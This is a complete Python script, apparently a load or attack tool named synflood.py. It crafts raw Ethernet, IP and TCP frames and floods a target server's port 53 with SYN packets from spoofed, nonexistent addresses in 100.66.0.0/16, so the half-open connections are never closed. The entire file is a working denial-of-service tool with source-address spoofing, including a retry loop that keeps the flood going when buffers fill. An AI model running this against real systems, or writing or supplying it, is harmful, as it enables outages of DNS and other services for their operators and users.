#!/usr/bin/python3
"""synflood.py DEVICE EDGE_MAC SERVER COUNT: one TCP SYN to port 53 from each of COUNT addresses and ports.

The addresses are of 100.66.0.0/16 and do not exist, so nobody acknowledges or resets what comes back.
"""
import errno
import socket
import struct
import sys
import time

device, edge_mac, server, count = sys.argv[1:]
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind((device, 0))
ethernet = bytes.fromhex(edge_mac.replace(":", "")) + s.getsockname()[4] + b"\x08\x00"
daddr = socket.inet_aton(server)


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def send(frame):
    while True:
        try:
            return s.send(frame)
        except OSError as e:  # the other end of the cable is behind
            if e.errno != errno.ENOBUFS:
                raise
            time.sleep(0.001)


for n in range(int(count)):
    saddr = struct.pack("!I", 0x64420000 + (n & 0xffff))
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 40, n & 0xffff, 0x4000, 64, 6, 0) + saddr + daddr
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    tcp = struct.pack("!HHIIBBHHH", 1024 + n % 60000, 53, n * 2654435761 & 0xffffffff, 0, 0x50, 2, 65535, 0, 0)
    sum_of_tcp = checksum(saddr + daddr + struct.pack("!HH", 6, len(tcp)) + tcp)
    send(ethernet + ip + tcp[:16] + struct.pack("!H", sum_of_tcp) + tcp[18:])
